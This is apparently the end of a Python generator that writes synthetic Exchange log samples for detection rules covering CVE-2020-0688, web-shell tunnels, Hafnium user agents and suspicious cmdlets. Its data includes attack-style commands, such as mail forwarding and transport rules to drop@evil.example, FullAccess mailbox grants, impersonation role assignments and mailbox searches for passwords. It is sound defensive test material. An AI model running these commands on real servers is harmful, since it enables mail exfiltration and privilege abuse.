         '-Name "Helpdesk Export" -Roles "Mailbox Import Export" '
         '-Members "jdoe"',
         "New-RoleGroup.Name='Helpdesk Export'.Roles='Mailbox Import "
         "Export'.Members='jdoe'")],
     [('Get-ManagementRoleAssignment', '-Role "Mailbox Import Export"',
       "Get-ManagementRoleAssignment.Role='Mailbox Import Export'"),
      ('New-ManagementRoleAssignment',
       '-Role "Mail Recipients" -User "jdoe"',
       "New-ManagementRoleAssignment.Role='Mail Recipients'.User='jdoe'"),
      ('Remove-ManagementRoleAssignment',
       '-Identity "Mailbox Import Export-administrator" -Confirm:$false',
       "Remove-ManagementRoleAssignment.Identity='Mailbox Import "
       "Export-administrator'")]),
    ('inbox_rule_forwarding', [
        ('New-InboxRule',
         '-Mailbox "cfo@contoso.com" -Name "." -ForwardTo '
         '"drop@evil.example" -StopProcessingRules $true',
         "New-InboxRule.Mailbox='cfo@contoso.com'.Name='.'."
         "ForwardTo='drop@evil.example'"),
        ('Set-InboxRule',
         '-Identity "cfo\\invoices" -RedirectTo "drop@evil.example"',
         "Set-InboxRule.Identity='cfo\\invoices'."
         "RedirectTo='drop@evil.example'"),
        ('New-InboxRule',
         '-Name "x" -ForwardAsAttachmentTo:drop@evil.example',
         "New-InboxRule.Name='x'.ForwardAsAttachmentTo='drop@evil.example'")],
     [('New-InboxRule',
       '-Name "Newsletters" -From "news@contoso.com" -MoveToFolder '
       '"jdoe:\\Newsletters"',
       "New-InboxRule.Name='Newsletters'.From='news@contoso.com'."
       "MoveToFolder='jdoe:\\Newsletters'"),
      ('Set-InboxRule', '-Identity "jdoe\\old" -ForwardTo $null',
       "Set-InboxRule.Identity='jdoe\\old'.ForwardTo=''"),
      ('Get-InboxRule', '-Mailbox "cfo@contoso.com"',
       "Get-InboxRule.Mailbox='cfo@contoso.com'"),
      ('Set-InboxRule', '-Identity "jdoe\\x" -Enabled $false',
       "Set-InboxRule.Identity='jdoe\\x'.Enabled='False'"),
      ('Set-Mailbox', '-Identity "jdoe" -ForwardingSmtpAddress '
       '"smtp:jdoe@partner.example"',
       "Set-Mailbox.Identity='jdoe'.ForwardingSmtpAddress="
       "'smtp:jdoe@partner.example'")]),
    ('mailbox_forwarding_smtp', [
        ('Set-Mailbox',
         '-Identity "ceo@contoso.com" -ForwardingSmtpAddress '
         '"smtp:drop@evil.example" -DeliverToMailboxAndForward $true',
         "Set-Mailbox.Identity='ceo@contoso.com'.ForwardingSmtpAddress="
         "'smtp:drop@evil.example'.DeliverToMailboxAndForward='True'")],
     [('Set-Mailbox', '-Identity "jdoe" -ForwardingSmtpAddress $null',
       "Set-Mailbox.Identity='jdoe'.ForwardingSmtpAddress=''"),
      ('Set-Mailbox', '-Identity "jdoe" -ProhibitSendQuota "49GB"',
       "Set-Mailbox.Identity='jdoe'.ProhibitSendQuota='49GB'"),
      ('Get-Mailbox', '-Identity "ceo@contoso.com" | Select '
       'ForwardingSmtpAddress',
       "Get-Mailbox.Identity='ceo@contoso.com'"),
      ('New-InboxRule', '-Name "fwd" -ForwardTo "drop@evil.example"',
       "New-InboxRule.Name='fwd'.ForwardTo='drop@evil.example'")]),
]


def cmdlets(table=None):
    day = dt.date(2021, 8, 12)
    benign = [('Get-Mailbox', '-ResultSize "1"', 'Get-Mailbox'),
              ('Get-ExchangeServer', '', 'Get-ExchangeServer')]
    for stem, pos, neg in table or CMDLETS:
        for kind, items in (('positive', pos), ('negative', neg)):
            items = benign + items
            t0 = mx.at(day, 4 if kind == 'positive' else 9, 2)
            times = [t0 + dt.timedelta(seconds=41 * i)
                     for i in range(len(items))]
            rps(stem + '_rps', kind, [
                (t, rps_row(t, cmd, params))
                for t, (cmd, params, _) in zip(times, items)])
            ecp(stem + '_ecp', kind, [
                (t, mx.ecp_row(t, cmd, '/ecp/DDI/DDIService.svc/NewObject?'
                               'msExchEcpCanary=%032x'
                               % RNG.getrandbits(128), rng=RNG))
                for t, (_, _, cmd) in zip(times, items)])


# Rules added for issue 3 (CVE-2020-0688, web shell tunnels and clients,
# more cmdlets) and the scanner-noise negatives of the web rules. They run
# after the others so that the samples above stay byte for byte the same.

# A made-up ViewState: the base64 prefix every serialized ViewState starts
# with (/wEy), then random characters: no gadget, nothing runs.
def fake_viewstate():
    alphabet = ('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'
                '0123456789')
    body = ''.join(RNG.choice(alphabet) for _ in range(180))
    return '%2FwEy' + body + '%3D%3D'


def cve_2020_0688():
    day = dt.date(2020, 3, 6)
    att, scan = '198.51.100.88', '192.0.2.57'
    ua = ('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 '
          '(KHTML, like Gecko) Chrome/80.0.3987.122 Safari/537.36')
    # The public exploits: log in, GET /ecp/default.aspx for the session,
    # then GET the page with the signed payload in the query.
    def shape(page='/ecp/default.aspx', gen='B97B4E27', extra=''):
        return (page, extra + '__VIEWSTATEGENERATOR=%s&__VIEWSTATE=%s'
                % (gen, fake_viewstate()))

    def chain(c, status, user='CONTOSO\\jdoe', ip=att):
        page, query = shape()
        page2, query2 = shape('/ecp/PersonalSettings/HomePage.aspx',
                              '1D01FD4E', 'showhelp=false&')
        return [
            row(c, 'POST', '/owa/auth.owa', '-', 302, ip, ua),
            row(c, 'GET', '/ecp/default.aspx', '-', 200, ip, ua, user),
            row(c, 'GET', page, query, status, ip, ua, user),
            row(c, 'GET', page2, query2, status, ip, ua, user)]

    def refused(c):
        page, query = shape()
        return [
            # No session: the ECP answers with the OWA logon page.
            row(c, 'GET', page, query, 302, scan, 'python-requests/2.22.0'),
            row(c, 'GET', page, query, 401, scan, 'python-requests/2.22.0'),
            row(c, 'GET', '/ecp/Default.aspx', query, 403, scan,
                'python-requests/2.22.0')]

    def legit(c):
        return [
            row(c, 'GET', '/ecp/default.aspx', '-', 200, '10.10.1.5', BROWSER,
                'CONTOSO\\administrator'),
            row(c, 'POST', '/ecp/default.aspx', '-', 200, '10.10.1.5',
                BROWSER, 'CONTOSO\\administrator'),
            row(c, 'GET', '/ecp/PersonalSettings/HomePage.aspx',
                'showhelp=false', 200, '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
            row(c, 'GET', '/ecp/default.aspx',
                '__VIEWSTATEGENERATOR=B97B4E27', 200, '10.10.3.9', BROWSER,
                'CONTOSO\\jdoe'),
            # zgrab looking for the ECP (ISC diary 26132).
            row(c, 'GET', '/owa/auth/logon.aspx', 'url=https://1/ecp/', 200,
                scan, 'Mozilla/5.0 zgrab/0.x')]

    c = clock(day, 2, 10)
    iis('cve_2020_0688_exploitation', 'positive', day,
        benign_web(c, 2) + chain(c, 500))
    t = mx.at(day, 2, 20)
    page, query = shape()
    httpproxy('cve_2020_0688_exploitation', 'positive-httpproxy', 'Ecp', [
        (t, mx.httpproxy_row(
            RNG, t, 'Ecp', UrlStem=page, AuthenticationType='FBA',
            AuthenticatedUser='CONTOSO\\jdoe',
            AnchorMailbox='Sid~%s-1105' % mx.DOMAIN_SID, UserAgent=ua,
            ClientIpAddress=att, HttpStatus=500, BackEndStatus=500,
            Method='GET', UrlQuery='?' + query)),
        (t + dt.timedelta(seconds=4), mx.benign_row(
            RNG, t + dt.timedelta(seconds=4), 'Ecp'))])
    c = clock(day, 9, 0)
    iis('cve_2020_0688_exploitation', 'negative', day,
        benign_web(c, 2) + refused(c) + legit(c))
    c = clock(day, 11, 0)
    iis('cve_2020_0688_attempt', 'positive', day,
        benign_web(c, 1) + refused(c))
    c = clock(day, 12, 0)
    iis('cve_2020_0688_attempt', 'negative', day,
        benign_web(c, 1) + chain(c, 500) + chain(c, 200) + legit(c))


def tunnels():
    day = dt.date(2021, 3, 9)
    att, scan = '203.0.113.91', '192.0.2.73'
    reg = '/aspnet_client/system_web/tunnel.aspx'
    c = clock(day, 1, 30)
    # reGeorgSocksProxy.py: the GET check, then POSTs with cmd= queries;
    # urllib3 sends no user agent (IIS writes "-").
    rows = [row(c, 'GET', reg, '-', 200, att, '-')]
    rows += [row(c, 'POST', reg,
                 'cmd=connect&target=10.10.1.10&port=3389', 200, att, '-')]
    for cmd in ('forward', 'read', 'read', 'forward', 'read'):
        rows.append(row(c, 'POST', reg, 'cmd=' + cmd, 200, att, '-'))
    rows.append(row(c, 'POST', reg, 'cmd=disconnect', 200, att, '-'))
    iis('webshell_tunnel_regeorg', 'positive', day, benign_web(c, 2) + rows)
    c = clock(day, 9, 0)
    iis('webshell_tunnel_regeorg', 'negative', day, benign_web(c, 2) + [
        # The GET check alone, GETs, probes of a missing page, look-alikes.
        row(c, 'GET', reg, '-', 200, att, '-'),
        row(c, 'GET', reg, 'cmd=read', 200, scan, '-'),
        row(c, 'POST', '/aspnet_client/tunnel.aspx', 'cmd=read', 404, scan,
            '-'),
        row(c, 'POST', '/intranet/tasks.aspx', 'cmd=readAll&list=7', 200,
            '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
        row(c, 'POST', '/intranet/mail.aspx', 'action=forward&id=12', 200,
            '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
        row(c, 'POST', '/ecp/DDI/DDIService.svc/GetList',
            'schema=Mailboxes', 200, '10.10.1.5', BROWSER,
            'CONTOSO\\administrator')])

    conn = '/aspnet_client/conn.aspx'
    py = 'Python-urllib/2.7'
    c = clock(day, 2, 15)
    # TunnaClient.py: ?proxy, the options request, data POSTs and pings
    # to ?proxy, then ?proxy&close.
    iis('webshell_tunnel_tunna', 'positive', day, benign_web(c, 2) + [
        row(c, 'GET', conn, 'proxy', 200, att, py),
        row(c, 'GET', conn, 'proxy&port=3389&ip=10.10.1.10&socks', 200,
            att, py),
        row(c, 'POST', conn, 'proxy', 200, att, py),
        row(c, 'POST', conn, 'proxy', 200, att, py),
        row(c, 'GET', conn, 'proxy&close', 200, att, py)])
    c = clock(day, 10, 0)
    iis('webshell_tunnel_tunna', 'negative', day, benign_web(c, 2) + [
        row(c, 'GET', '/proxy.pac', '-', 200, '10.10.3.9', BROWSER),
        row(c, 'GET', '/wpad.dat', 'proxy', 200, '10.10.3.9', BROWSER),
        row(c, 'GET', '/intranet/settings.aspx', 'proxy=1', 200,
            '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
        row(c, 'GET', '/intranet/settings.aspx', 'proxyAddress=10.10.1.1',
            200, '10.10.3.9', BROWSER, 'CONTOSO\\jdoe'),
        row(c, 'GET', conn, 'proxy', 404, scan, py)])

    c = clock(day, 3, 5)
    iis('webshell_client_antsword', 'positive', day, benign_web(c, 2) + [
        row(c, 'POST', '/aspnet_client/system_web/discover.aspx', '-', 200,
            att, 'antSword/v2.1'),
        row(c, 'POST', '/owa/auth/errorFF.aspx', '-', 200, att,
            'antSword/v2.0')])
    c = clock(day, 11, 0)
    iis('webshell_client_antsword', 'negative', day, benign_web(c, 2) + [
        row(c, 'POST', '/aspnet_client/shell.aspx', '-', 404, scan,
            'antSword/v2.1'),
        row(c, 'POST', '/owa/auth/errorFF.aspx', '-', 404, scan,
            'python-requests/2.25.1'),
        row(c, 'GET', '/owa/', '-', 302, '10.10.3.9', BROWSER)])


def scanner_noise(rule):
    """Version probes (zgrab) and Exchange's own health probes, which are
    neither attempts nor exploitation: HttpProxy and IIS rows."""
    day = dt.date(2023, 1, 6)
    zgrab, scan = 'Mozilla/5.0 zgrab/0.x', '192.0.2.99'
    tool = ('/ecp/Current/exporttool/'
            'microsoft.exchange.ediscovery.exporttool.application')
    entry = 'negative-scanner-noise'
    t = mx.at(day, 1, 0, 5)
    health = 'CONTOSO\\HealthMailbox0c6a2b1'
    # The rows copy the shapes of the real zgrab and AMProbe rows in
    # ../shared/data/exchange-logs (Ecp, Ews, Mapi, PowerShell).
    httpproxy(rule, entry, 'Ecp', [
        (t, mx.httpproxy_row(
            RNG, t, 'Ecp', UrlStem=tool, AuthenticationType='FBA',
            IsAuthenticated='false',
            AnchorMailbox='ServerVersion~Version 15.0 (Build 0.0)',
            UserAgent=zgrab, ClientIpAddress=scan, Method='GET',
            RoutingHint='EDiscoveryExportTool-ServerVersion'))])
    httpproxy(rule, entry, 'Ews', [
        (t, mx.httpproxy_row(
            RNG, t, 'Ews', UrlHost='localhost', UrlStem='/ews/',
            AuthenticatedUser=health,
            AnchorMailbox='Sid~%s-1142' % mx.DOMAIN_SID,
            UserAgent='AMProbe/Local/ClientAccess',
            ClientIpAddress='127.0.0.1', BackEndStatus='', Method='GET'))])
    httpproxy(rule, entry, 'Mapi', [
        (t, mx.httpproxy_row(
            RNG, t, 'Mapi', UrlStem='/mapi/emsmdb/', AuthenticatedUser=health,
            AnchorMailbox='MailboxGuid~%s' % mx.DB_GUID,
            UserAgent='MapiHttpClient', ClientIpAddress='10.10.1.20',
            RoutingHint='MailboxGuidWithDomain',
            UrlQuery='?mailboxId=%s@contoso.com' % mx.DB_GUID))])
    httpproxy(rule, entry, 'PowerShell', [
        (t, mx.httpproxy_row(
            RNG, t, 'PowerShell', UrlStem='/powershell',
            AuthenticationType='Kerberos', AuthenticatedUser=health,
            AnchorMailbox='ServerVersion~Version 15.1 (Build 2176.2)',
            UserAgent='Microsoft WinRM Client', ClientIpAddress='10.10.1.20',
            RoutingHint='ExchClientVer-ServerCookie',
            BackEndCookie='Server~%s~1942063431~2023-01-06T01:10:05' % mx.FQDN,
            UrlQuery='?clientApplication=ActiveMonitor;'
                     'PSVersion=5.1.14393.5582'))])
    c = clock(day, 1, 0)
    iis(rule, entry, day, [
        row(c, 'GET', tool, '-', 200, scan, zgrab),
        row(c, 'GET', '/owa/auth/logon.aspx', 'url=https://1/ecp/', 200,
            scan, zgrab),
        row(c, 'GET', '/owa/', '-', 302, scan, zgrab),
        row(c, 'GET', '/ews/', '-', 200, '127.0.0.1',
            'AMProbe/Local/ClientAccess', health),
        row(c, 'GET', '/owa/healthcheck.htm', '-', 200, '127.0.0.1',
            'AMProbe/Local/ClientAccess', '-'),
        row(c, 'GET', '/ecp/healthcheck.htm', '-', 200, '127.0.0.1',
            'AMProbe/Local/ClientAccess', '-'),
        row(c, 'POST', '/powershell',
            'clientApplication=ActiveMonitor;PSVersion=5.1.14393.5582', 200,
            '10.10.1.20', WINRM, health, 80)])


NOISE_RULES = [
    'proxylogon_ssrf_serverinfo', 'proxylogon_ssrf_localhost',
    'proxylogon_ssrf_autodiscover', 'proxylogon_ssrf_backendcookie',
    'proxylogon_ecp_reset_vdir', 'hafnium_static_resource_post',
    'exchange_webshell_access', 'proxyshell_exploitation',
    'proxyshell_attempt', 'proxynotshell_exploitation',
    'proxynotshell_attempt', 'owassrf_exploitation', 'owassrf_attempt',
    'proxytoken_inbox_rule', 'cve_2020_0688_exploitation',
    'cve_2020_0688_attempt', 'webshell_tunnel_regeorg',
    'webshell_tunnel_tunna', 'webshell_client_antsword']

TRANSPORT_BCC = 'drop@evil.example'
CMDLETS_MORE = [
    ('transport_rule_redirect', [
        ('New-TransportRule',
         '-Name "Archive" -SentToScope "InOrganization" -BlindCopyTo "%s"'
         % TRANSPORT_BCC,
         "New-TransportRule.Name='Archive'.SentToScope='InOrganization'."
         "BlindCopyTo='%s'" % TRANSPORT_BCC),
        ('Set-TransportRule',
         '-Identity "Finance" -RedirectMessageTo "%s"' % TRANSPORT_BCC,
         "Set-TransportRule.Identity='Finance'.RedirectMessageTo='%s'"
         % TRANSPORT_BCC),
        ('New-TransportRule',
         '-Name "x" -From "ceo@contoso.com" -CopyTo:%s' % TRANSPORT_BCC,
         "New-TransportRule.Name='x'.From='ceo@contoso.com'.CopyTo='%s'"
         % TRANSPORT_BCC)],
     [('New-TransportRule',
       '-Name "Disclaimer" -SentToScope "NotInOrganization" '
       '-ApplyHtmlDisclaimerLocation "Append" -ApplyHtmlDisclaimerText '
       '"Confidential"',
       "New-TransportRule.Name='Disclaimer'.SentToScope='NotInOrganization'."
       "ApplyHtmlDisclaimerLocation='Append'"),
      ('Set-TransportRule', '-Identity "Archive" -BlindCopyTo $null',
       "Set-TransportRule.Identity='Archive'.BlindCopyTo=''"),
      ('Get-TransportRule', '-Identity "Archive"',
       "Get-TransportRule.Identity='Archive'"),
      ('Remove-TransportRule', '-Identity "Archive" -Confirm:$false',
       "Remove-TransportRule.Identity='Archive'"),
      ('New-InboxRule', '-Name "fwd" -ForwardTo "%s"' % TRANSPORT_BCC,
       "New-InboxRule.Name='fwd'.ForwardTo='%s'" % TRANSPORT_BCC)]),
    ('mailbox_permission_fullaccess', [
        ('Add-MailboxPermission',
         '-Identity "ceo@contoso.com" -User "CONTOSO\\svc-sync" '
         '-AccessRights "FullAccess" -InheritanceType "All"',
         "Add-MailboxPermission.Identity='ceo@contoso.com'."
         "User='CONTOSO\\svc-sync'.AccessRights='FullAccess'."
         "InheritanceType='All'"),
        ('Add-MailboxPermission',
         '-Identity "cfo" -User "jdoe" -AccessRights "FullAccess" '
         '-AutoMapping:$false',
         "Add-MailboxPermission.Identity='cfo'.User='jdoe'."
         "AccessRights='FullAccess'.AutoMapping='False'")],
     [('Add-MailboxPermission',
       '-Identity "ceo" -User "jdoe" -AccessRights "ReadPermission"',
       "Add-MailboxPermission.Identity='ceo'.User='jdoe'."
       "AccessRights='ReadPermission'"),
      ('Add-MailboxPermission',
       '-Identity "ceo" -User "jdoe" -AccessRights "FullAccess" -Deny:$true',
       "Add-MailboxPermission.Identity='ceo'.User='jdoe'."
       "AccessRights='FullAccess'.Deny='True'"),
      ('Remove-MailboxPermission',
       '-Identity "ceo" -User "jdoe" -AccessRights "FullAccess" '
       '-Confirm:$false',
       "Remove-MailboxPermission.Identity='ceo'.User='jdoe'."
       "AccessRights='FullAccess'"),
      ('Get-MailboxPermission', '-Identity "ceo@contoso.com"',
       "Get-MailboxPermission.Identity='ceo@contoso.com'")]),
    ('role_group_member_privileged', [
        ('Add-RoleGroupMember',
         '-Identity "Organization Management" -Member "svc-sync"',
         "Add-RoleGroupMember.Identity='Organization Management'."
         "Member='svc-sync'"),
        ('Add-RoleGroupMember',
         '-Identity "Discovery Management" -Member "jdoe"',
         "Add-RoleGroupMember.Identity='Discovery Management'.Member='jdoe'"),
        ('Update-RoleGroupMember',
         '-Identity "Recipient Management" -Members "jdoe","helpdesk1"',
         "Update-RoleGroupMember.Identity='Recipient Management'."
         "Members='jdoe,helpdesk1'")],
     [('Add-RoleGroupMember', '-Identity "Help Desk" -Member "jdoe"',
       "Add-RoleGroupMember.Identity='Help Desk'.Member='jdoe'"),
      ('Add-RoleGroupMember',
       '-Identity "View-Only Organization Management" -Member "auditor1"',
       "Add-RoleGroupMember.Identity='View-Only Organization Management'."
       "Member='auditor1'"),
      ('Remove-RoleGroupMember',
       '-Identity "Organization Management" -Member "olduser" '
       '-Confirm:$false',
       "Remove-RoleGroupMember.Identity='Organization Management'."
       "Member='olduser'"),
      ('Get-RoleGroupMember', '-Identity "Organization Management"',
       "Get-RoleGroupMember.Identity='Organization Management'")]),
    ('impersonation_role_assigned', [
        ('New-ManagementRoleAssignment',
         '-Name "EWSImp" -Role "ApplicationImpersonation" -User "svc-sync"',
         "New-ManagementRoleAssignment.Name='EWSImp'."
         "Role='ApplicationImpersonation'.User='svc-sync'"),
        ('New-RoleGroup',
         '-Name "Sync" -Roles "ApplicationImpersonation" -Members "jdoe"',
         "New-RoleGroup.Name='Sync'.Roles='ApplicationImpersonation'."
         "Members='jdoe'")],
     [('Get-ManagementRoleAssignment', '-Role "ApplicationImpersonation"',
       "Get-ManagementRoleAssignment.Role='ApplicationImpersonation'"),
      ('Remove-ManagementRoleAssignment',
       '-Identity "ApplicationImpersonation-svc-sync" -Confirm:$false',
       "Remove-ManagementRoleAssignment.Identity="
       "'ApplicationImpersonation-svc-sync'"),
      ('New-ManagementRoleAssignment',
       '-Role "Mail Recipients" -User "jdoe"',
       "New-ManagementRoleAssignment.Role='Mail Recipients'.User='jdoe'")]),
    ('mailbox_search_copy', [
        ('New-MailboxSearch',
         '-Name "q1" -SourceMailboxes "ceo@contoso.com","cfo@contoso.com" '
         '-SearchQuery "password OR invoice" -TargetMailbox '
         '"jdoe@contoso.com"',
         "New-MailboxSearch.Name='q1'.SourceMailboxes="
         "'ceo@contoso.com,cfo@contoso.com'.SearchQuery='password OR "
         "invoice'.TargetMailbox='jdoe@contoso.com'"),
        ('New-ComplianceSearch',
         '-Name "all" -ExchangeLocation "All" -ContentMatchQuery "password"',
         "New-ComplianceSearch.Name='all'.ExchangeLocation='All'."
         "ContentMatchQuery='password'")],
     [('New-MailboxSearch',
       '-Name "hold" -SourceMailboxes "ceo@contoso.com" '
       '-InPlaceHoldEnabled $true',
       "New-MailboxSearch.Name='hold'.SourceMailboxes='ceo@contoso.com'."
       "InPlaceHoldEnabled='True'"),
      ('New-MailboxSearch',
       '-Name "est" -SourceMailboxes "ceo@contoso.com" -SearchQuery '
       '"invoice" -EstimateOnly',
       "New-MailboxSearch.Name='est'.SourceMailboxes='ceo@contoso.com'."
       "SearchQuery='invoice'.EstimateOnly='True'"),
      ('New-ComplianceSearch',
       '-Name "case7" -ExchangeLocation "jdoe@contoso.com" '
       '-ContentMatchQuery "contract"',
       "New-ComplianceSearch.Name='case7'.ExchangeLocation="
       "'jdoe@contoso.com'.ContentMatchQuery='contract'"),
      ('Get-MailboxSearch', '-Identity "q1"',
       "Get-MailboxSearch.Identity='q1'")]),
]

NEW_RULES = ['cve_2020_0688_exploitation', 'cve_2020_0688_attempt',
             'webshell_tunnel_regeorg', 'webshell_tunnel_tunna',
             'webshell_client_antsword'] + [
    '%s_%s' % (c[0], f) for c in CMDLETS_MORE for f in ('ecp', 'rps')]


def more_rules():
    for r in NEW_RULES:
        shutil.rmtree(os.path.join(HERE, r), ignore_errors=True)
    for r in NOISE_RULES:
        shutil.rmtree(os.path.join(HERE, r, 'negative-scanner-noise'),
                      ignore_errors=True)
    cve_2020_0688()
    tunnels()
    cmdlets(CMDLETS_MORE)
    for r in NOISE_RULES:
        scanner_noise(r)


RULES = ['proxyshell_attempt', 'proxyshell_exploitation',
         'proxynotshell_attempt', 'proxynotshell_exploitation',
         'owassrf_attempt', 'owassrf_exploitation',
         'hafnium_static_resource_post', 'exchange_webshell_access',
         'proxytoken_inbox_rule'] + [
    '%s_%s' % (c[0], f) for c in CMDLETS for f in ('ecp', 'rps')]


# Added last, so that the rows of every rule above stay the same.
UA_RULE = 'hafnium_user_agent_post'
CRAWLER_UAS = [
    'DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)',
    'Mozilla/5.0 (compatible; Baiduspider/2.0; '
    '+http://www.baidu.com/search/spider.html)',
    'Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.5 '
    '(like Gecko) (Exabot-Thumbnails)',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) '
    'Chrome/51.0.2704.103 Safari/537.36',
    'Googlebot/2.1 (+http://www.googlebot.com/bot.html)']


def hafnium_user_agents():
    """POSTs to OWA, ECP and aspnet_client pages with the user agents of
    CHIRP's AA21-062A list (written with '+' for spaces, as IIS does)."""
    shutil.rmtree(os.path.join(HERE, UA_RULE), ignore_errors=True)
    day = dt.date(2021, 3, 4)
    att, scan = '203.0.113.78', '192.0.2.11'
    shell = '/aspnet_client/system_web/discover.aspx'
    c = clock(day, 3, 20)
    iis(UA_RULE, 'positive', day, benign_web(c, 2) + [
        row(c, 'POST', '/ecp/DDI/DDIService.svc/SetObject',
            'schema=ResetOABVirtualDirectory', 200, att,
            'ExchangeServicesClient/0.0.0.0'),
        row(c, 'POST', '/owa/auth/Current/', '-', 200, att,
            CRAWLER_UAS[0]),
        row(c, 'POST', shell, '-', 200, att, CRAWLER_UAS[1]),
        row(c, 'POST', '/ecp/proxyLogon.ecp', '-', 241, att,
            'python-requests/2.19.1'),
        row(c, 'POST', '/owa/auth/errorFF.aspx', '-', 200, att,
            CRAWLER_UAS[2]),
        row(c, 'POST', '/OWA/auth/Current/', '-', 200, att,
            CRAWLER_UAS[3]),
        row(c, 'POST', shell, '-', 200, att, CRAWLER_UAS[4])])
    # HttpProxy: a POST whose forged cookie did not route (no ServerInfo~
    # anchor: no proxylogon_* finding).
    t = mx.at(day, 3, 25)
    httpproxy(UA_RULE, 'positive-httpproxy', 'Ecp', [
        (t, mx.httpproxy_row(
            RNG, t, 'Ecp', UrlStem='/ecp/DDI/DDIService.svc/GetList',
            AuthenticationType='', IsAuthenticated='false',
            UserAgent='python-requests/2.25.1', ClientIpAddress=att,
            HttpStatus=500, BackEndStatus='', ProxyAction='',
            TargetServer='', TargetServerVersion='', RoutingType='',
            RoutingHint='', DatabaseGuid='')),
        # HttpProxy writes the user agent as sent: '+' is a '+'.
        (t + dt.timedelta(seconds=9), mx.httpproxy_row(
            RNG, t + dt.timedelta(seconds=9), 'Owa',
            UrlStem='/owa/auth/Current/', AuthenticationType='',
            IsAuthenticated='false', UserAgent=CRAWLER_UAS[1],
            ClientIpAddress=att, Method='POST', HttpStatus=200))])
    # Near misses: the same agents with GET or outside OWA, ECP and
    # aspnet_client (crawlers do crawl), other python-requests versions,
    # and requests another rule reports: static files, antSword, a
    # forged ServerInfo~ anchor.
    c = clock(day, 9, 0)
    iis(UA_RULE, 'negative', day, benign_web(c, 2) + [
        row(c, 'GET', '/owa/', '-', 302, scan, CRAWLER_UAS[4]),
        row(c, 'GET', '/owa/auth/logon.aspx',
            'url=https%3a%2f%2fmail.contoso.com%2fowa%2f', 200, scan,
            CRAWLER_UAS[1]),
        row(c, 'POST', '/search/index.aspx', '-', 200, scan,
            CRAWLER_UAS[0]),
        row(c, 'POST', '/ecp/DDI/DDIService.svc/GetList', 'schema=Mailboxes',
            200, '10.10.1.5', 'python-requests/2.31.0',
            'CONTOSO\\administrator'),
        row(c, 'POST', '/ecp/y.js', '-', 200, att,
            'python-requests/2.25.1'),
        row(c, 'POST', '/owa/auth/Current/themes/resources/logon.css', '-',
            200, att, CRAWLER_UAS[0]),
        row(c, 'POST', '/ecp/x.js', '-', 200, att,
            'ExchangeServicesClient/0.0.0.0'),
        row(c, 'POST', shell, '-', 200, att, 'antSword/v2.1'),
        row(c, 'POST', '/ews/exchange.asmx', '-', 200, '10.10.1.7',
            'ExchangeServicesClient/15.00.0913.015', 'CONTOSO\\svc-crm')])
    t = mx.at(day, 9, 30)
    httpproxy(UA_RULE, 'negative-httpproxy', 'Ecp', [
        (t, mx.httpproxy_row(
            RNG, t, 'Ecp', UrlStem='/ecp/proxyLogon.ecp',
            AuthenticationType='', IsAuthenticated='false',
            AnchorMailbox='ServerInfo~a]@exch01.contoso.local:444/'
            'ecp/proxyLogon.ecp?#',
            UserAgent='python-requests/2.25.1', ClientIpAddress=att,
            RoutingHint='BEResourceCookie', TargetServer='a]@'
            'exch01.contoso.local:444'))])
    scanner_noise(UA_RULE)


def main():
    for r in RULES:
        shutil.rmtree(os.path.join(HERE, r), ignore_errors=True)
    proxyshell()
    proxynotshell()
    owassrf()
    hafnium()
    webshell()
    proxytoken()
    cmdlets()
    more_rules()
    hafnium_user_agents()
    return 0


if __name__ == '__main__':
    sys.exit(main())
